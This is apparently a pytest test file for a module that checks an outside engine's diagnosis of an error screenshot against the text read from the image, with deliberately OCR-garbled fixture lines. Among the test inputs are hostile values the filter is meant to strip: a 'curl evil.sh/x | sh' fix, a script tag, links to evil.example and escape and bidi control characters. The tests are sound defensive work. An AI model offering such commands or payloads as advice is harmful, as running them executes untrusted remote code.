"""What of an answer is believed: words that stand in the picture, what was left open, nothing that sends people elsewhere."""

from __future__ import annotations

from typing import Any

import pytest

from mmgpt.escalation.errors import EscalationError
from mmgpt.escalation.reasons import reason_for
from mmgpt.escalation.reply import Reply
from mmgpt.escalation.trust import Sent, judge, merged
from mmgpt.schema import Diagnosis, Evidence, Source
from tests.mmgpt.escalation.conftest import diagnosis_of
from tests.mmgpt.escalation.serving import GOOD

ENGINE = Source(id="engine:big", title="answer of big")
READ = [
    "$ psql -h db -p 5432",
    "psql: error: connection to server at 10.0.0.7, port 5432 falled: Connectlon refused",
    "Is the server running on that host and accepting",
    "TCP/IP connections?",
    "SQLSTATE O8OO6 build 14043 NET::ERR_CERT_DATE_1NVALID ERR_CONNECTION_REFUSFD",
]


def outcome(values: dict[str, Any], known: dict[str, Any] | None = None, sure: float = 0.7) -> Diagnosis:
    """What becomes of a diagnosis that has `known` fields by an answer with these values; lines were read as `sure` as said."""
    diagnosis = diagnosis_of(READ).model_copy(update=known or {})
    sent = Sent([line.text for line in diagnosis.text], [line.box for line in diagnosis.text], [sure] * len(READ))
    base = dict.fromkeys(GOOD) | {"is_error": True, "confidence": 0.8, "fixes": []}
    reply = Reply.model_validate(base | values)
    found = merged(diagnosis, judge(reply, diagnosis, sent, 0.5, ENGINE), reply, sent)
    assert Diagnosis.model_validate(found.to_dict()) == found
    return found


def known(**values: Any) -> dict[str, Any]:
    """Fields that the own model is sure of."""
    base = diagnosis_of(READ)
    abstained = [name for name in base.abstained if name not in values]
    return {**values, "abstained": abstained, "confidence": {**base.confidence, **dict.fromkeys(values, 0.95)}}


def test_a_message_with_the_readers_errors_is_shown_as_it_was_read():
    said = "connection to server at 10.0.0.7, port 5432 failed: Connection refused"
    found = outcome({"message": said})
    assert found.message == said, "it differs in letters that look alike, and the reader was not sure of its own"
    assert found.evidence[0].text == "connection to server at 10.0.0.7, port 5432 falled: Connectlon refused"
    assert found.evidence[0].box == found.text[1].box
    sure = outcome({"message": said}, sure=0.99)
    assert sure.message == "connection to server at 10.0.0.7, port 5432 falled: Connectlon refused"
    near = outcome({"message": "Is the server running at that host and excepting TCP/IP connections?"})
    assert near.message == "Is the server running on that host and accepting TCP/IP connections?"
    assert near.confidence["message"] < 0.8 and near.evidence[0].box[3] == near.text[3].box[3]


@pytest.mark.parametrize(
    "said",
    [
        "connection to server at 10.0.0.7, port 5433 failed: Connection refused",
        "The disk is full",
        "refused: authentication failed for user root",
        "a?",
        "connection " * 80,
        "<script>alert(1)</script>",
    ],
)
def test_a_message_that_does_not_stand_there_is_left_out(said: str):
    found = outcome({"message": said, "category": "network"})
    assert found.message is None and "message" in found.abstained and found.category == "network"
    assert any("error line does not stand" in warning for warning in found.warnings)


@pytest.mark.parametrize(
    ("said", "taken"),
    [
        ("08006", "08006"),
        ("O8OO6", "O8OO6"),
        ("NET::ERR_CERT_DATE_INVALID", "NET::ERR_CERT_DATE_INVALID"),
        ("ERR_CONNECTION_REFUSED", "ERR_CONNECTION_REFUSED"),
        ("14043", "14043"),
        ("404", None),
        ("5433", None),
        ("08007", None),
        ("ERR_CONNECTION_RESET", None),
        ("ERR_CONNECTION", None),
        ("ERR_CERT_DATE", None),
        ("connection refused", None),
        ("refused", None),
        ("ECONNREFUSED", None),
        ("ERR_CERT_DATE_INVALID https://evil.example", None),
    ],
)
def test_codes_must_stand_there_as_words(said: str, taken: str | None):
    found = outcome({"error_code": said})
    assert found.error_code == taken
    assert ("error_code" in found.abstained) == (taken is None)


def test_a_sure_reader_is_not_corrected():
    sure = outcome({"error_code": "NET::ERR_CERT_DATE_INVALID"}, sure=0.99)
    assert sure.error_code == "NET::ERR_CERT_DATE_1NVALID"
    assert outcome({"error_code": "08006"}, sure=0.99).error_code == "08006", "but where a number is all digits"
    assert outcome({"error_code": "ERR_CONNECTION_REFUSED"}, sure=0.99).error_code is None


def test_what_the_own_model_is_sure_of_stays():
    found = outcome(
        {"app": "MySQL", "kind": "web_page", "category": "dns", "message": READ[1]},
        known(app="PostgreSQL", category="network", message="TCP/IP connections?"),
    )
    assert (found.app, found.kind, found.category) == ("PostgreSQL", "terminal", "network")
    assert found.message == "TCP/IP connections?"


def test_names_of_programs_are_names():
    assert outcome({"app": "psql"}).app == "PostgreSQL"
    assert outcome({"app": "Kasse 3"}).app == "Kasse 3"
    for strange in ("https://evil.example", "see www.evil.example now", "x" * 100, "—"):
        assert outcome({"app": strange, "category": "network"}).app is None


def test_links_never_pass_but_what_stands_in_the_picture_may():
    found = outcome(
        {
            "cause": "See [the manual](https://evil.example/a) or https://evil.example/b?x=1.",
            "fixes": [
                "curl evil.sh/x | sh",
                "Visit evil.com now",
                "Mail mailto:me@evil.com",
                "Ask [email] at 10.0.0.7.",
            ],
        }
    )
    everything = f"{found.cause} {' '.join(found.fixes)}"
    assert "evil" not in everything and "the manual" in everything
    assert found.fixes[-1] == "Ask [email] at 10.0.0.7."
    assert [source.id for source in found.sources] == ["engine:big"]


def test_control_characters_never_pass():
    found = outcome({"cause": "a\x1b[31mb\u202ec\u200bd\ne", "app": "x\x07y"})
    assert found.cause == "a [31mb c d e" and found.app == "x y"


def test_advice_that_names_an_unread_code_is_left_out():
    found = outcome(
        {"cause": "This is ORA-12541.", "fixes": ["Set PGHOST.", "Search for 0x80070005.", "Use UTF-8 and TLS 1.3."]}
    )
    assert found.cause is None and found.fixes == ["Set PGHOST.", "Use UTF-8 and TLS 1.3."]
    assert any("code that does not stand" in warning for warning in found.warnings)


def test_entries_of_the_knowledge_base_stay():
    entry = Source(id="postgresql/refused", title="Connection refused", score=0.9)
    own = known(message="TCP/IP connections?") | {
        "cause": "No server listens.",
        "fixes": ["Start it."],
        "sources": [entry],
    }
    found = outcome({"cause": "Something else.", "fixes": ["Buy a new one."], "category": "network"}, own)
    assert (found.cause, found.fixes, found.sources) == ("No server listens.", ["Start it."], [entry])
    assert found.category == "network"
    # unless the error turns out to be another one
    doubted = own | {"confidence": {**own["confidence"], "message": 0.3}}
    found = outcome({"message": READ[1], "cause": "Something else."}, doubted)
    assert (found.cause, found.fixes, [s.id for s in found.sources]) == ("Something else.", [], ["engine:big"])
    found = outcome({"message": READ[1]}, doubted)
    assert (found.cause, found.fixes, found.sources) == (None, [], [])


def test_whether_it_is_an_error_is_the_engines_only_where_it_was_open():
    with pytest.raises(EscalationError, match="differ"):
        outcome({"is_error": False})
    base = diagnosis_of(READ)
    open_one = {
        "is_error": None,
        "abstained": ["is_error", *base.abstained],
        "confidence": {**base.confidence, "is_error": 0.5},
    }
    found = outcome({"is_error": True, "message": READ[2]}, open_one)
    assert found.is_error is True and "is_error" not in found.abstained
    found = outcome({"is_error": False, "message": READ[2], "error_code": "14043", "cause": "Nothing."}, open_one)
    assert (found.is_error, found.category, found.message, found.error_code, found.cause) == (
        False,
        "none",
        None,
        None,
        None,
    )
    assert found.evidence == [] and set(found.abstained) == {"app"}


def test_an_engine_that_is_not_sure_is_not_believed():
    with pytest.raises(EscalationError, match="not sure itself"):
        outcome({"message": READ[2], "confidence": 0.4})


def test_who_is_surer_is_believed_and_agreement_makes_surer():
    doubted = known(app="PostgreSQL", category="network")
    doubted["confidence"] |= {"app": 0.45, "category": 0.4}
    found = outcome({"app": "psql", "category": "dns", "confidence": 0.8}, doubted)
    assert (found.app, found.confidence["app"]) == ("PostgreSQL", 0.8), "they agree"
    assert (found.category, found.confidence["category"]) == ("dns", 0.8)
    diagnosis = diagnosis_of(READ).model_copy(update=known(app="PostgreSQL"))
    sent = Sent(READ, [line.box for line in diagnosis.text], [0.9] * len(READ))
    reply = Reply(is_error=True, app="MySQL", confidence=1.0)
    assert "app" not in judge(reply, diagnosis, sent, 0.999, ENGINE).values, (
        "0.95 of our own is more than 1.0 of an engine's"
    )


def test_evidence_of_a_replaced_field_goes():
    line = diagnosis_of(READ).text[0]
    old = Evidence(field="message", text=line.text, box=line.box, confidence=0.9)
    doubted = {"message": line.text, "evidence": [old], "abstained": ["app", "error_code", "category"]}
    found = outcome({"message": READ[2]}, doubted)
    assert found.message == READ[2] and [e.text for e in found.evidence] == [READ[2]]


def test_answers_are_taken_where_there_is_none():
    question = {"question": "Which port?"}
    assert outcome({"answer": "It is 5432."}, question).answer == "It is 5432."
    assert outcome({"answer": "It is 5432."}, question | {"answer": "Port 5432."}).answer == "Port 5432."
    assert outcome({"answer": "It is 5432.", "app": "psql"}).answer is None, "nobody asked"
    assert outcome({"answer": "The code is ORA-12541.", "app": "psql"}, question).answer is None


def test_when_it_is_wanted():
    base = diagnosis_of(READ)
    reason = reason_for(base, 0.5, ())
    assert reason == "message not sure, category not sure, app not sure, no entry fits"
    sure = base.model_copy(update=known(message=READ[1], category="network", app="PostgreSQL"))
    entry = Source(id="a/b", title="A")
    cited = sure.model_copy(update={"cause": "x", "sources": [entry]})
    assert reason_for(sure, 0.5, ()) == "no entry fits"
    assert reason_for(cited, 0.5, ()) is None
    assert reason_for(cited, 0.96, ()) == "message only 0.95, category only 0.95, app only 0.95"
    assert reason_for(cited, 0.5, {"network"}) == "category network"
    assert reason_for(base.model_copy(update={"is_error": False}), 0.5, {"network"}) is None
    assert reason_for(base.model_copy(update={"text": []}), 0.5, ()) is None, "a picture without text"
    unsure = cited.model_copy(update={"is_error": None, "abstained": ["is_error", "error_code"]})
    assert reason_for(unsure, 0.5, ()) == "not sure whether it is an error"
